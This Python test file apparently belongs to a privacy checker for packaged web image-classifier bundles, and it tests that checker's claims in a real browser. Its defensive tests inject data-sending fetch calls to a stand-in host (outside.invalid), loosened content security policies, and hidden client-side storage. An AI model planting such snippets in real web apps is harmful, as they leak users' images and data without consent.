"""Each claim of a web bundle: checked in a real browser, and caught when it does not hold."""

from __future__ import annotations

import contextlib
import json
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from edgecnn.errors import PackageError
from edgecnn.package.privacy.claims import Checked
from edgecnn.package.privacy.web_check import check_web_bundle
from edgecnn.package.web.contents import sealed
from edgecnn.package.web.single import single_page
from edgecnn.package.web.sources import app_sources
from web.made import MODELS, files_of, needs_browser, package

pytestmark = [pytest.mark.slow, needs_browser]

IDS = [
    "own-origin", "sends-refused", "images-not-stored", "offline", "single-file", "no-other-way",
]  # fmt: skip
SEND = "\nsetTimeout(() => fetch('http://outside.invalid/picture').catch(() => 0), 500);\n"


@pytest.fixture(scope="module")
def files() -> dict[str, bytes]:
    return files_of("resnet8")


def changed(files: Mapping[str, bytes], **texts: tuple[str, str]) -> dict[str, bytes]:
    """Return a bundle with some texts replaced, sealed anew; ``app_js`` means app.js."""
    worker = app_sources()["service-worker.js"]
    made = {**files, "service-worker.js": worker.encode()}
    for key, (old, new) in texts.items():
        name = key.replace("__", "-").replace("_", ".")
        before = made[name].decode()
        assert old in before, f"{name} has no {old}"
        made[name] = before.replace(old, new, 1).encode()
    return sealed(made)


def states(checked: Checked) -> dict[str, str]:
    return {one.id: one.state for one in checked.outcomes}


def evidence(checked: Checked, name: str) -> str:
    return next(one.evidence for one in checked.outcomes if one.id == name)


def check(files: Mapping[str, bytes], honest: Mapping[str, bytes]) -> Checked:
    """Check a changed folder; the single file is the honest bundle's."""
    return check_web_bundle(files, single_page(honest))


def test_every_claim_of_the_bundle_holds(files: dict[str, bytes]) -> None:
    checked = check_web_bundle(files)
    assert states(checked) == dict.fromkeys(IDS, "held"), checked.outcomes


def test_an_open_policy_is_caught(files: dict[str, bytes]) -> None:
    """All ways of sending at once; and what the app itself sends arrives then."""
    page = files["index.html"].decode()
    policy = page.split('Policy" content="')[1].split('"')[0]
    opened = "default-src * 'unsafe-inline' 'unsafe-eval'; worker-src *"
    bad = changed(files, index_html=(policy, opened), app_js=("await startApp();", SEND + "await startApp();"))  # fmt: skip
    checked = check(bad, files)
    assert states(checked)["sends-refused"] == states(checked)["own-origin"] == "broken"
    seen = evidence(checked, "sends-refused")
    assert "fetch went out" in seen
    assert "http://outside.invalid/picture" in evidence(checked, "own-origin")


@pytest.mark.parametrize(
    ("old", "new", "way"),
    [
        ("connect-src 'self'", "connect-src 'self' http://outside.invalid", "fetch"),
        ("connect-src 'self'", "connect-src 'self' http://outside.invalid", "beacon"),
        ("connect-src 'self'", "connect-src 'self' ws://outside.invalid", "WebSocket"),
        ("img-src 'self' blob:", "img-src * blob:", "image"),
        ("form-action 'none'", "form-action *", "form"),
    ],
)
def test_each_way_that_a_policy_leaves_open_is_caught(
    files: dict[str, bytes], old: str, new: str, way: str
) -> None:
    checked = check(changed(files, index_html=(old, new)), files)
    assert states(checked)["sends-refused"] == "broken"
    assert f"{way} " in evidence(checked, "sends-refused")


@pytest.mark.parametrize(
    ("code", "said"),
    [
        ("(await caches.open('x')).put('/kept.png', new Response('pixels'));", "kept.png"),
        ("localStorage.setItem('last', 'cat');", "local storage: last"),
        ("sessionStorage.setItem('last', 'cat');", "session storage: last"),
        ("document.cookie = 'last=cat';", "cookies: last=cat"),
        ("indexedDB.open('frames');", "database: frames"),
        (
            "await (await navigator.storage.getDirectory())"
            ".getFileHandle('frame', { create: true });",
            "file system: frame",
        ),
    ],
    ids=["cache", "local", "session", "cookie", "database", "files"],
)
def test_what_is_stored_is_caught(files: dict[str, bytes], code: str, said: str) -> None:
    bad = changed(files, app_js=("await startApp();", f"{code}\nawait startApp();"))
    checked = check(bad, files)
    assert states(checked)["images-not-stored"] == "broken"
    assert said in evidence(checked, "images-not-stored")


def test_a_query_to_its_own_server_is_caught(files: dict[str, bytes]) -> None:
    leak = "fetch('app.css?label=cat');\nawait startApp();"
    checked = check(changed(files, app_js=("await startApp();", leak)), files)
    assert states(checked)["own-origin"] == "broken"
    assert "label=cat" in evidence(checked, "own-origin")


def test_a_worker_that_sends_is_caught(files: dict[str, bytes]) -> None:
    """A page's policy does not bind its service worker; the proxy sees it all the same."""
    bad = changed(files, service__worker_js=("async function keepAll() {", "async function keepAll() {\n  fetch('http://outside.invalid/worker').catch(() => 0);"))  # fmt: skip
    checked = check(bad, files)
    assert states(checked)["own-origin"] == "broken"
    assert "http://outside.invalid/worker" in evidence(checked, "own-origin")


def test_an_app_that_needs_its_server_is_caught(files: dict[str, bytes]) -> None:
    bad = changed(files, service__worker_js=("return kept ?? fetch(request);", "return fetch(request);"))  # fmt: skip
    checked = check(bad, files)
    assert states(checked)["offline"] == "broken"
    assert "did not start again" in evidence(checked, "offline")


def test_a_single_file_that_may_connect_is_caught(files: dict[str, bytes]) -> None:
    page = single_page(files).replace(b"connect-src 'none'", b"connect-src *", 1)
    checked = check_web_bundle(files, page)
    assert states(checked) == {**dict.fromkeys(IDS, "held"), "single-file": "broken"}
    assert "fetch went out" in evidence(checked, "single-file")


def test_names_of_other_ways_out_are_caught(files: dict[str, bytes]) -> None:
    leak = "await startApp();\nconst peer = new RTCPeerConnection();"
    checked = check(changed(files, app_js=("await startApp();", leak)), files)
    assert states(checked)["no-other-way"] == "broken"
    assert evidence(checked, "no-other-way") == "app.js has RTCPeerConnection"


def test_an_app_that_does_not_start_is_no_bundle(files: dict[str, bytes]) -> None:
    bad = changed(files, app_js=("await startApp();", "throw new Error('no');"))
    worse = {**bad, "golden.json": b"{}"}
    with pytest.raises(PackageError, match="does not work in this machine's browser"):
        check_web_bundle(sealed({**worse, "app.js": files["app.js"], "service-worker.js": app_sources()["service-worker.js"].encode()}))  # fmt: skip


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("packaged")
    done = package(MODELS / "resnet8", "--version", "1.0", "--out", folder / "dist", "--json")
    assert done.returncode == 0, done.stderr
    (folder / "result.json").write_text(done.stdout)
    return folder


def privacy(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "edgecnn", "privacy", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)


def test_the_command_says_what_it_made(place: Path) -> None:
    result = json.loads((place / "result.json").read_text())
    folder, page = Path(result["folder"]), Path(result["html"])
    assert (folder.name, page.name) == ("resnet8-1.0-web", "resnet8-1.0-classifier.html")
    assert result["folder_bytes"] == sum(
        path.stat().st_size for path in folder.rglob("*") if path.is_file()
    )
    done = subprocess.run(
        ["sha256sum", "--check", "--quiet", "SHA256SUMS"], cwd=folder, check=False
    )
    assert done.returncode == 0
    note = (folder / "PRIVACY.md").read_text()
    record = json.loads((folder / "privacy.json").read_text())
    assert record["subject"] in note
    assert [one["id"] for one in record["claims"]] == IDS
    for one in record["claims"]:
        assert one["checked"] is True
        assert one["text"] in note


def test_the_same_inputs_give_the_same_bytes(place: Path) -> None:
    done = package(MODELS / "resnet8", "--version", "1.0", "--out", place / "again", "--quiet")
    assert (done.returncode, done.stderr) == (0, "")
    first = {p.relative_to(place / "dist"): p for p in (place / "dist").rglob("*") if p.is_file()}
    again = {p.relative_to(place / "again"): p for p in (place / "again").rglob("*") if p.is_file()}
    assert first.keys() == again.keys()
    for name, path in first.items():
        assert path.read_bytes() == again[name].read_bytes(), name


def test_the_claims_can_be_checked_again(place: Path) -> None:
    done = privacy(place / "dist/resnet8-1.0-web", "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == json.loads((place / "result.json").read_text())["privacy"]


def test_claims_about_other_files_are_refused(place: Path, tmp_path: Path) -> None:
    import hashlib
    import shutil

    folder = tmp_path / "copy"
    shutil.copytree(place / "dist/resnet8-1.0-web", folder)
    script = folder / "app.js"
    script.write_text(script.read_text() + "// other\n")
    done = privacy(folder)
    assert done.returncode == 32, done.stderr
    sums = (folder / "SHA256SUMS").read_text().splitlines()
    digest = hashlib.sha256(script.read_bytes()).hexdigest()
    sums = [f"{digest}  app.js" if line.endswith("  app.js") else line for line in sums]
    (folder / "SHA256SUMS").write_text("\n".join(sums) + "\n")
    done = privacy(folder)
    assert done.returncode == 36, done.stderr
    assert "are about other files than it holds" in done.stderr


def test_without_a_browser_every_claim_says_that_it_was_not_checked(
    files: dict[str, bytes], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    with contextlib.ExitStack():
        monkeypatch.setenv("PATH", str(tmp_path))
        checked = check_web_bundle(files)
    assert states(checked) == dict.fromkeys(IDS, "not checked")
    assert {one.evidence for one in checked.outcomes} == {
        "Chromium is not installed (Debian, Ubuntu: sudo apt install chromium)"
    }
